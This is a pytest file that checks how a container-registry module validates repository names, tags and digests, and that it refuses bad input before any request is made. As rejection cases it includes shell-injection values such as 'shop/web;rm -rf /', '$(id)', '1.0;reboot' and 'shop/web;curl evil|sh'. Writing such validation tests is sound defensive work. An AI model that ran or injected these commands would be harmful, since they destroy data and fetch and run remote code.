"""Image names, tags and digests against the distribution spec grammar: what a user types
(or a flow parameter carries) is refused before it reaches a URL, with the rule it breaks."""

from __future__ import annotations

import pytest

from quayside.registry import InvalidImageName, parse_image_name
from quayside.registry.names import (
    ImageName,
    check_digest,
    check_reference,
    check_repository,
    check_tag,
)

DIGEST = "sha256:" + "ab" * 32


@pytest.mark.parametrize(
    "name", ["web", "shop/web", "team.a/web_app", "a__b/c-d", "a--b", "x/y/z/w", "0app"]
)
def test_valid_repositories_pass(name: str) -> None:
    assert check_repository(name) == name


@pytest.mark.parametrize(
    "name",
    [
        "",
        "Web",
        "shop/web;rm -rf /",
        "shop/$(id)",
        "shop/`id`",
        "shop web",
        "shop/../etc",
        "shop//web",
        "/web",
        "web/",
        "-web",
        "web-",
        "a___b",
        "shop/web|cat",
        "shop/web&",
        "shop/web\n",
        "a" * 256,
    ],
)
def test_invalid_repositories_are_refused_with_the_rule(name: str) -> None:
    with pytest.raises(InvalidImageName) as caught:
        check_repository(name)
    assert "repository name" in str(caught.value)
    assert caught.value.hint is not None


@pytest.mark.parametrize("tag", ["latest", "1.2.3", "v1.0.0-rc.1", "_x", "A" * 128])
def test_valid_tags_pass(tag: str) -> None:
    assert check_tag(tag) == tag


@pytest.mark.parametrize(
    "tag", ["", "-x", ".x", "1.0;reboot", "$(id)", "a b", "x" * 129, "1.0\n", "a/b", "a:b"]
)
def test_invalid_tags_are_refused(tag: str) -> None:
    with pytest.raises(InvalidImageName, match="tag"):
        check_tag(tag)


def test_digests_must_be_sha256_or_sha512_lowercase_hex() -> None:
    assert check_digest(DIGEST) == DIGEST
    assert check_digest("sha512:" + "0" * 128)
    for bad in ["sha256:" + "AB" * 32, "sha256:abc", "md5:" + "0" * 32, DIGEST + ";id", DIGEST[7:]]:
        with pytest.raises(InvalidImageName, match="digest"):
            check_digest(bad)


def test_a_reference_is_a_digest_when_it_has_a_colon() -> None:
    assert check_reference("1.0") == "1.0"
    assert check_reference(DIGEST) == DIGEST
    with pytest.raises(InvalidImageName, match="digest"):
        check_reference("sha256:nothex")


def test_image_names_parse_with_registry_port_tag_and_digest() -> None:
    name = parse_image_name(f"127.0.0.61:5000/shop/web:1.4.2@{DIGEST}")
    assert name == ImageName("127.0.0.61:5000", "shop/web", "1.4.2", DIGEST)
    assert name.reference == DIGEST
    assert str(name) == f"127.0.0.61:5000/shop/web:1.4.2@{DIGEST}"
    assert parse_image_name("harbor.example.com/app").tag is None
    assert parse_image_name("harbor.example.com:443/app:1").reference == "1"


@pytest.mark.parametrize(
    "text",
    [
        "web:1.0",  # no registry part
        "127.0.0.1:5000/Shop/web",
        "127.0.0.1:5000/web:1.0;id",
        "reg;id/web",
        f"127.0.0.1:5000/web@{DIGEST}x",
        "127.0.0.1:5000/",
    ],
)
def test_bad_image_names_are_refused(text: str) -> None:
    with pytest.raises(InvalidImageName):
        parse_image_name(text)


def test_a_name_without_tag_or_digest_has_no_reference() -> None:
    with pytest.raises(InvalidImageName, match="neither tag nor digest"):
        _ = ImageName("reg.example.com", "web").reference


def test_copy_image_refuses_bad_names_before_any_request() -> None:
    from quayside.registry import ImageLocation, RegistrySettings, copy_image

    nowhere = RegistrySettings(url="http://127.0.0.1:9")  # nothing listens: a request would fail
    with pytest.raises(InvalidImageName, match="repository name"):
        ImageLocation(nowhere, "shop/web;curl evil|sh")
    source, target = ImageLocation(nowhere, "shop/web"), ImageLocation(nowhere, "prod/web")
    with pytest.raises(InvalidImageName, match="tag"):
        copy_image(source, target, DIGEST, tag="1.0$(reboot)")
    with pytest.raises(InvalidImageName, match="digest"):
        copy_image(source, target, "sha256:`id`")
